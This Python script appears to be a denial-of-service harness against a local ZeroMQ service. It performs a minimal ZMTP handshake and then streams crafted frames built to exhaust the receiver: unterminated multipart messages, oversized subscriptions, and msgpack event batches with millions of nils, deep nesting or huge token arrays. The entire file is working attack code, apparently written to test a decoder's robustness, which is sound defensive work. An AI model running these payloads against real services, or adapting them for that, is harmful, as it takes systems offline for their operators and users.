"""A stranger in a process of its own: a TCP client that speaks as much ZMTP as it needs to do harm.

``python attacker.py PORT SOCKET_TYPE ATTACK SECONDS [CONNECTIONS]``; prints bytes sent, and how often it was cut off.
SIGTERM ends it before its time is over. https://rfc.zeromq.org/spec/23/
"""

from __future__ import annotations

import signal
import socket
import sys
import time

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00NULL" + bytes(16) + bytes(32)


def frame(body: bytes, flags: int = 0) -> bytes:
    if len(body) < 256:
        return bytes([flags, len(body)]) + body
    return bytes([flags | 2]) + len(body).to_bytes(8, "big") + body


def array(length: int) -> bytes:
    return b"\xdd" + length.to_bytes(4, "big")


# An event in the form of an array, up to its tokens.
STORED = b"\x97\xabBlockStored\x91\x01\xc0"


def ready(kind: bytes) -> bytes:
    return frame(b"\x05READY\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind, 4)


def connect(port: int, kind: bytes) -> socket.socket:
    peer = socket.create_connection(("127.0.0.1", port), 20)
    peer.sendall(GREETING + ready(kind))
    answer = b""
    while b"Socket-Type" not in answer:
        chunk = peer.recv(4096)
        if not chunk:
            raise ConnectionError("hung up during the handshake")
        answer += chunk
    return peer


def chunk_of(attack: str, number: int) -> bytes:
    """Return the next bytes of an attack, some 64 KiB."""
    if attack == "parts":  # of one message without an end, empty
        return frame(b"", 1) * 32_768
    if attack == "long-subscriptions":
        return frame(b"\x01" + number.to_bytes(8, "big") + bytes(60_000))
    payload = b"\x93\xcb" + bytes(8) + payload_of(attack) + b"\x07"
    return frame(b"", 1) + frame(number.to_bytes(8, "big"), 1) + frame(payload)


def payload_of(attack: str) -> bytes:
    """Return the events of a batch that is hard to decode."""
    if attack == "nils":
        return array(2_000_000) + b"\xc0" * 2_000_000
    if attack == "legal-nils":
        return array(65_536) + b"\xc0" * 65_536
    if attack == "tokens":
        return array(1) + STORED + array(650_000) + b"\xcd\x7f\xff" * 650_000 + b"\x01\xc0\xc0"
    if attack == "nested":
        return array(1) + b"\x99" + STORED[1:] + b"\x90\x01\xc0\xc0\xc0\x91" + array(2_000_000) + b"\x90" * 2_000_000
    raise ValueError(attack)


def main() -> int:
    port, kind, attack = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3]
    end = time.monotonic() + float(sys.argv[4])

    def stop(*_: object) -> None:  # no lock is taken here: the next signal may come in the midst of it
        nonlocal end
        end = 0.0

    signal.signal(signal.SIGTERM, stop)

    def over() -> bool:
        return time.monotonic() >= end

    sent = number = cut = 0
    peers: list[socket.socket] = []
    connections = int(sys.argv[5]) if len(sys.argv) > 5 else 1
    while not over() and cut < 3 * connections:  # it comes back twice
        try:
            while len(peers) < connections:
                peers.append(connect(port, kind))
            for peer in peers:
                number += 1
                data = chunk_of(attack, number)
                peer.sendall(data)
                sent += len(data)
        except OSError:
            cut += 1
            for peer in peers:
                peer.close()
            peers.clear()
    print(sent, cut)
    return 0


if __name__ == "__main__":
    sys.exit(main())
